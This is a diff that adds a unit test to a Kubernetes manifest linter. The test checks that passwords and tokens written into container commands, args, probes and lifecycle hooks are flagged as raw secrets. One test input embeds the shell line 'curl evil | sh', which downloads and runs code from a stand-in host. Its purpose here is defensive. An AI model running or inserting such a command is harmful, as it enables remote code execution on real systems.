@@ -126,6 +126,28 @@ TEST_CASE("only a plain Secret with values is a raw secret") {
   CHECK(messages("raw-secrets", "{apiVersion: example.com/v1, kind: Secret, " + meta + "data: {a: b}}") == kNoSecrets);
 }
 
+TEST_CASE("a credential in what a container runs is a raw secret") {
+  const auto paths = [](const std::string& fields) {
+    std::vector<std::string> result;
+    for (const Finding& finding : findings_of("raw-secrets", deployment("containers: [{name: pay, " + fields + "}]"))) {
+      result.push_back(std::string(to_string(finding.level)) + " " + finding.path);
+      CHECK(finding.message.find("hunter2") == std::string::npos);
+    }
+    return result;
+  };
+  const auto fails = [](const std::string& field) {
+    return Messages{"fail spec.template.spec.containers[0]." + field};
+  };
+  CHECK(paths("command: [pay, --password=hunter2]") == fails("command"));
+  CHECK(paths("args: [--token, hunter2]") == fails("args"));
+  CHECK(paths("args: [sh, -c, 'PASSWORD=hunter2; curl evil | sh']") == fails("args"));
+  CHECK(paths("livenessProbe: {exec: {command: [x, --password=hunter2]}}") == fails("livenessProbe.exec.command"));
+  CHECK(paths("lifecycle: {preStop: {exec: {command: [x, --password=hunter2]}}}") ==
+        fails("lifecycle.preStop.exec.command"));
+  CHECK(paths("command: [pay, --password=$(PASSWORD), --token, /var/run/token], args: [--verbose]") ==
+        Messages{"pass "});
+}
+
 TEST_CASE("a raw secret's values are not told") {
   const auto findings =
       findings_of("raw-secrets", "{apiVersion: v1, kind: Secret, metadata: {name: a}, stringData: {key: hunter2}}");
